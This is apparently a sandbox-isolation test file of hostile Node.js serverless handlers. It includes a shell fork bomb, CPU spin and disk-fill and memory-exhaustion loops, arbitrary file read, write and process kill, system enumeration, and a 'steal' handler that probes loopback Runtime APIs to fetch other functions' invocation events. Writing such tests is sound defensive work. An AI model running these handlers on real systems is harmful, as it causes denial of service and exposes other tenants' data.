'use strict';
// Hostile handlers: each tries something a sandbox must stop and returns what happened.
const fs = require('fs');
const net = require('net');
const os = require('os');
const { spawn } = require('child_process');

const outcome = (fn) => {
  try {
    return { ok: true, value: fn() };
  } catch (e) {
    return { ok: false, errno: e.code, message: e.message };
  }
};

exports.echo = async (event) => event;

const fdlink = (fd) => {
  try {
    return fs.readlinkSync(`/proc/self/fd/${fd}`);
  } catch (e) {
    return e.message;
  }
};

exports.ids = async () => ({
  uid: process.getuid(), euid: process.geteuid(), gid: process.getgid(), groups: process.getgroups(),
  pid: process.pid, hostname: os.hostname(), cwd: process.cwd(),
  task_root: process.env.LAMBDA_TASK_ROOT, task: fs.readdirSync('/var/task').sort(),
  root: fs.readdirSync('/').sort(), etc: fs.readdirSync('/etc').sort(),
  procs: fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).map(Number).sort((a, b) => a - b),
  fds: Object.fromEntries(fs.readdirSync('/proc/self/fd').map((f) => [f, fdlink(f)])),
  pid1: fs.readFileSync('/proc/1/cmdline').toString().split('\0')[0],
});

exports.read = async (event) => outcome(() => fs.readFileSync(event.path).toString());

exports.write = async (event) => outcome(() => {
  fs.writeFileSync(event.path, 'written by a function\n');
  return event.path;
});

exports.kill = async (event) => outcome(() => process.kill(event.pid, 'SIGKILL'));

exports.connect = (event) => new Promise((resolve) => {
  const s = net.connect({ host: event.host, port: event.port, timeout: 2000 });
  s.on('connect', () => { s.destroy(); resolve({ ok: true, value: 'connected' }); });
  s.on('error', (e) => resolve({ ok: false, errno: e.code, message: e.message }));
  s.on('timeout', () => { s.destroy(); resolve({ ok: false, errno: 'ETIMEDOUT', message: 'timeout' }); });
});

exports.alloc = async (event) => {
  const chunks = [];
  for (let n = 0; n < event.mb; n++) chunks.push(Buffer.allocUnsafe(1 << 20).fill(1));
  return chunks.length;
};

exports.forkbomb = async (event) => {
  spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore' });
  await new Promise((r) => setTimeout(r, (event.seconds || 1) * 1000));
  return fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).length;
};

exports.filltmp = async () => {
  const fd = fs.openSync('/tmp/fill', 'w');
  const chunk = Buffer.alloc(1 << 20, 2);
  for (;;) fs.writeSync(fd, chunk); // ends with ENOSPC: the function's error
};

exports.spin = async () => {
  spawn('/bin/sh', ['-c', 'while :; do :; done'], { stdio: 'ignore' });
  for (;;) { /* spin */ }
};

// listening lists the TCP ports listening on an IPv4 loopback address, as /proc/net/tcp shows them.
const listening = () => [...new Set(fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1)
  .map((l) => l.trim().split(/\s+/)).filter((f) => f.length > 3 && f[3] === '0A' && f[1].split(':')[0].endsWith('7F'))
  .map((f) => parseInt(f[1].split(':')[1], 16)))].sort((a, b) => a - b);

// steal asks every other Runtime API it can find for another function's next event.
exports.steal = async () => {
  const own = Number(process.env.AWS_LAMBDA_RUNTIME_API.split(':').pop());
  const stolen = {};
  for (const port of listening().filter((p) => p !== own)) {
    stolen[port] = await new Promise((resolve) => {
      const s = net.connect({ host: '127.0.0.1', port }, () => s.write('GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n'));
      let got = '';
      s.setTimeout(1000, () => { s.destroy(); resolve(got); });
      s.on('data', (d) => { got += d; });
      s.on('error', (e) => resolve(`error: ${e.message}`));
      s.on('close', () => resolve(got));
    });
  }
  return { own, listening: listening(), stolen };
};
